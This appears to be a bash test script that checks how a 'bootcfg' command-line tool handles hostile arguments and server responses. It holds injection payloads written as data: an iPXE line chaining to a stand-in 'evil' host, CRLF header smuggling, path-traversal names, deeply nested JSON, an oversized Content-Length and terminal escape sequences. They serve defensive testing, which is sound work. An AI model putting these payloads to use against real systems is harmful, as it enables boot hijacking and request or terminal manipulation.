#!/usr/bin/env bash
# The bootcfg CLI against hostile arguments and servers (#26, first part): empty paths are usage
# errors (never the file-system root), invalid push NAMEs and URLs are usage errors, a cmdline
# with a line break never reaches an iPXE script, identifiers from a server are percent-encoded
# in the next request line, and JSON nested 100,000 deep from a server is one error line.
BOOTCFGD=$1
BOOTCFG=$(realpath "${2:?path to bootcfg}")
source "$(dirname "$0")/lib.sh"

cli() {
    rc=0
    out=$("$BOOTCFG" "$@" 2>"$WORK/cli.err") || rc=$?
    err=$(cat "$WORK/cli.err")
}
lk="$WORK/lk"
mkdir -p "$lk" "$WORK/assets" "$WORK/data"
printf 'kernel' >"$lk/img-kernel"
printf 'initrd' >"$lk/img-initrd.img"
printf 'console=ttyS0\n' >"$lk/img-cmdline"
cd "$WORK"

# --- empty paths: usage (2), nothing written anywhere
for args in "image archive $lk/img-kernel ''" "image archive '' out" "image compare '' x" \
    "image save2image -o '' x" "image save2image ''" \
    "push img --dir $lk --assets-path '' --data-path $WORK/data" \
    "push img --dir $lk --assets-path $WORK/assets --data-path ''" \
    "push img --dir '' --assets-path $WORK/assets --data-path $WORK/data" \
    "push img --dir $lk --ucode '' --assets-path $WORK/assets --data-path $WORK/data" \
    "push equinixmetal img --dir $lk --base-url http://x/ --destination ''"; do
    eval "cli $args"
    expect_eq "bootcfg $args: usage error ($err)" 2 "$rc"
    expect_contains "bootcfg $args: names the empty path" "is empty: give a path" "$err"
done
for f in /img-kernel /img-initrd.img /img-cmdline /img-equinixmetal.ipxe /kernel.tar.gz /img; do
    [[ -e $f ]] && fail "$f written at the file-system root"
done
pass

# --- invalid NAME and URL: usage
for name in '../img' 'a/b' '' '.hidden' 'x y'; do
    cli push "$name" --dir "$lk" --assets-path "$WORK/assets" --data-path "$WORK/data"
    expect_eq "push NAME '$name': usage" 2 "$rc"
done
cli push equinixmetal img --dir "$lk" --base-url $'http://x/\nchain http://evil/' --destination "$WORK/out"
expect_eq "base URL with a line break: usage" 2 "$rc"

# --- a malformed endpoint is a usage error (2), not "cannot connect" (3)
for cmd in "group list" "select mac=52:54:00:00:00:01" "devices list --provider bootcfg"; do
    for ep in foo://x http:// "unix:" "https://host/path"; do
        # shellcheck disable=SC2086
        cli $cmd --endpoint "$ep"
        expect_eq "bootcfg $cmd --endpoint $ep: usage" 2 "$rc"
        expect_contains "bootcfg $cmd --endpoint $ep: names the flag" "--endpoint" "$err"
    done
done

# --- a cmdline with a line break: refused, no script
printf 'console=ttyS0\nchain http://evil/x\nboot\n' >"$lk/img-cmdline"
cli push equinixmetal img --dir "$lk" --base-url http://x/ --destination "$WORK/out"
expect_eq "cmdline with a line break: refused" 1 "$rc"
expect_contains "cmdline refusal names the file" "img-cmdline: holds a control character" "$err"
[[ -e "$WORK/out/img-equinixmetal.ipxe" ]] && fail "script written with an injected line" || pass
printf 'console=ttyS0\n' >"$lk/img-cmdline"

# --- a server's answers: identifiers encoded, deep JSON refused
cat >"$WORK/server.py" <<'PY'
import json, socket, sys
mode = sys.argv[1]
srv = socket.socket()
srv.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
srv.bind(("127.0.0.1", 0))
srv.listen(8)
print(srv.getsockname()[1], flush=True)
conn, _ = srv.accept()
data = b""
while b"\r\n\r\n" not in data:
    chunk = conn.recv(65536)
    if not chunk:
        break
    data += chunk
with open(sys.argv[2], "wb") as f:
    f.write(data)
ESC = "\x1b]0;pwned\x07\x1b[2J\r\u009b31m"
bodies = {
    "deep": b"[" * 100000 + b"]" * 100000,
    "escape": json.dumps({"items": [{"id": "g" + ESC, "profile": "p", "name": "n" + ESC,
                                     "selector": {"mac": ESC}}]}).encode(),
    "select-missing": b'{"rule": "x"}',
    "select-typed": b'{"selected": [], "matching_groups": {"a": 1}}',
}
body = bodies.get(mode, b"{}")
try:
    if mode == "big-length":  # a Content-Length far over the client's 64 MiB, body in the same write
        conn.sendall(b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: %d\r\n"
                     b"Connection: close\r\n\r\n" % (1 << 30) + b"x" * (1 << 20))
        for _ in range(300):
            conn.sendall(b"x" * (1 << 20))
    else:
        conn.sendall(b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: %d\r\n"
                     b"Connection: close\r\n\r\n" % len(body) + body)
except OSError:
    pass
conn.close()
PY
# serve MODE: a one-request server in the background; sets sport and spid.
serve() {
    rm -f "$WORK/port"
    python3 "$WORK/server.py" "$1" "$WORK/request.txt" >"$WORK/port" &
    spid=$!
    PIDS+=("$spid")
    for _ in $(seq 100); do [[ -s "$WORK/port" ]] && break; sleep 0.05; done
    sport=$(cat "$WORK/port")
}
serve echo
cli devices delete $'node\r\nX-Injected: 1' --provider bootcfg --endpoint "http://127.0.0.1:$sport"
wait "$spid" 2>/dev/null || true
head -1 "$WORK/request.txt" >"$WORK/line.txt"
expect_contains "identifier percent-encoded in the request line" "/api/v1/groups/node%0D%0AX-Injected:%201 " "$(cat "$WORK/line.txt")"
grep -q '^X-Injected' "$WORK/request.txt" && fail "header injected through an identifier" || pass

serve deep
cli group list --endpoint "http://127.0.0.1:$sport"
wait "$spid" 2>/dev/null || true
expect_eq "deep JSON from the server: exit 1, not a crash ($err)" 1 "$rc"
expect_contains "deep JSON: says so" "nested deeper than 64" "$err"

# --- a Content-Length of 1 GiB: refused at the header, memory stays small
serve big-length
peak=$(python3 -c 'import resource, subprocess, sys
subprocess.run(sys.argv[1:], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
print(resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss)' "$BOOTCFG" group list --endpoint "http://127.0.0.1:$sport")
kill "$spid" 2>/dev/null || true; wait "$spid" 2>/dev/null || true
echo "cli_hostile.sh: peak RSS against a 1 GiB answer: $peak KiB"
# Reading the body would take over 1 GiB; the bound leaves room for the sanitizer build's
# shadow memory (about 100 MiB there, 10 MiB without).
if (( peak < 256 * 1024 )); then pass; else fail "a 1 GiB Content-Length was read: peak RSS $peak KiB"; fi
serve big-length
cli group list --endpoint "http://127.0.0.1:$sport"
kill "$spid" 2>/dev/null || true; wait "$spid" 2>/dev/null || true
expect_contains "1 GiB answer: body limit named" "body limit exceeded" "$err"

# --- select against answers that lack fields or have the wrong types: one line, never a crash
for mode in select-missing select-typed; do
    serve "$mode"
    cli select mac=52:54:00:00:00:01 --endpoint "http://127.0.0.1:$sport"
    wait "$spid" 2>/dev/null || true
    [[ $rc == 0 || $rc == 1 ]] && pass || fail "select, $mode: exit $rc ($err)"
done

# --- a terminal never receives ESC, BEL, CR or C1 controls from a server's or archive's text
if command -v script >/dev/null; then
    serve escape
    script -qec "$BOOTCFG group list --endpoint http://127.0.0.1:$sport" /dev/null >"$WORK/tty.out" 2>&1 || true
    wait "$spid" 2>/dev/null || true
    expect_contains "the name is shown escaped" 'n\x1b]0;pwned\x07\x1b[2J\x0d\u009b31m' "$(cat "$WORK/tty.out")"
    python3 - "$WORK/tty.out" <<'PY' && pass || fail "raw control bytes reached the terminal"
import sys
data = open(sys.argv[1], "rb").read().replace(b"\r\n", b"\n")
bad = [b for b in (b"\x1b", b"\x07", b"\r", "\u009b".encode()) if b in data]
sys.exit(1 if bad else 0)
PY
    serve escape
    cli group list --endpoint "http://127.0.0.1:$sport"
    wait "$spid" 2>/dev/null || true
    expect_contains "into a pipe the text is as the server sent it" $'\x1b]0;pwned' "$out"
    # An archive's member name in an error line on a terminal.
    python3 - "$WORK/evil.tar" <<'PY'
import io, json, sys, tarfile
with tarfile.open(sys.argv[1], "w") as t:
    data = json.dumps([{"Layers": ["\x1b]0;title\x07layer.tar"]}]).encode()
    ti = tarfile.TarInfo("manifest.json"); ti.size = len(data); t.addfile(ti, io.BytesIO(data))
PY
    script -qec "$BOOTCFG image save2image -o $WORK/evil-out.tar.gz $WORK/evil.tar" /dev/null >"$WORK/tty.out" 2>&1 || true
    expect_contains "archive text in an error: escaped" '\x1b]0;title\x07layer.tar' "$(cat "$WORK/tty.out")"
    grep -q $'\x1b' "$WORK/tty.out" && fail "ESC from an archive reached the terminal" || pass
fi

finish
